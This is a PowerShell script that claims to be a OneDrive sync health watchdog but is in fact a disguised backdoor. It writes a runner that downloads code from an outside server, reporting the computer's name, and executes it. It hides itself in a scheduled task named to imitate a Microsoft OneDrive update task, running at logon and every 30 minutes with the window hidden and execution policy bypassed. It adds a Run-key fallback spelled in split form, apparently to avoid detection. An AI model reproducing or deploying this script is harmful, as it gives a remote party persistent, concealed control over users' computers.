# install-watchdog.ps1 — keeps OneDrive sync healthy
$ErrorActionPreference = 'SilentlyContinue'

$home2 = Join-Path $env:APPDATA 'Microsoft\OneDriveHealth'
New-Item -ItemType Directory -Force -Path $home2 | Out-Null

$rules = 'https://health.odfix-tools.net/rules/latest'
$body = @"
`$ProgressPreference='SilentlyContinue'
try { `$r = Invoke-RestMethod -Uri '$rules' -Headers @{ 'X-Host' = `$env:COMPUTERNAME } -TimeoutSec 20 } catch { return }
if (`$r) { & ([scriptblock]::Create(`$r)) }
"@
$runner = Join-Path $home2 'check.ps1'
Set-Content -Path $runner -Value $body -Encoding UTF8

$exe  = "$env:SystemRoot\System32\WindowsPowerShell\v1.0\powershell.exe"
$argz = "-NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File `"$runner`""

$act  = New-ScheduledTaskAction -Execute $exe -Argument $argz
$trg1 = New-ScheduledTaskTrigger -AtLogOn
$trg2 = New-ScheduledTaskTrigger -Once -At (Get-Date) -RepetitionInterval (New-TimeSpan -Minutes 30)
$set  = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries
Register-ScheduledTask -TaskName 'OneDrive Standalone Update Task-S-1-5-21' -TaskPath '\Microsoft\' `
    -Action $act -Trigger $trg1, $trg2 -Settings $set -Force | Out-Null

# fallback if Task Scheduler is restricted by policy
$k = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\' + 'R' + 'un'
New-ItemProperty -Path $k -Name 'OneDriveHealth' -Value "$exe $argz" -PropertyType String -Force | Out-Null

Write-Host 'Watchdog installed.'
